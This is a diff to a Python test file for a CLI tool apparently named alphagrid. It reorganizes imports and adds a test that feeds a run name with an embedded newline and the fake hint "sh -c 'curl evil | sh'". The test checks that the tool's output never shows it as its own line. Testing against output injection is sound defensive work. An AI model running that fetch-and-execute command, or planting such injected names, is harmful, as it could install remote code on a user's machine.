@@ -13,9 +13,10 @@ from typing import Any
 from xml.etree import ElementTree
 
 import pytest
-from alphagrid.analysis.comparison import compare
+from alphagrid.analysis.compare_runs import compare
 from alphagrid.analysis.data import load
-from alphagrid.analysis.figures import Figure, new_canvas
+from alphagrid.analysis.plots.canvas import new_canvas
+from alphagrid.analysis.plots.figure import Figure
 from alphagrid.analysis.report import report_csv, report_json, report_markdown, report_tables, write_report
 from alphagrid.analysis.tables import Table, as_csv, as_markdown
 from alphagrid.cli import app
@@ -440,3 +441,20 @@ def test_a_dry_run_shows_hostile_values_harmlessly(tmp_path: Path) -> None:
         assert without_spaces(text) in said
     told = printed(Root(tmp_path / "root"), "submit", str(spec), "--dry-run", "--json")
     assert len(json.loads(told)["runs"]) == len(texts)
+
+
+NAME_OF_TWO_LINES = "x\nhint: sh -c 'curl evil | sh'"
+
+
+@pytest.mark.parametrize(
+    "words",
+    [("logs", EXPERIMENT, Run(NAME_OF_TWO_LINES, 0.1).id), ("prune", EXPERIMENT, "--all", "--dry-run")],
+)
+def test_a_line_break_in_a_name_begins_no_line(words: tuple[str, ...], tmp_path: Path) -> None:
+    root = Root(tmp_path / "root")
+    write_runs(root, [Run(NAME_OF_TWO_LINES, 0.1)])
+    run = root.experiment(EXPERIMENT).run(Run(NAME_OF_TWO_LINES, 0.1).id).path
+    for step in (3, 4):
+        (run / f"checkpoint-000000000{step}-0001-0123abcd.pt").touch()
+    done = CliRunner().invoke(app, [*words, "--root", str(root.path)])
+    assert not [line for line in done.output.splitlines() if line.startswith("hint: sh -c")]
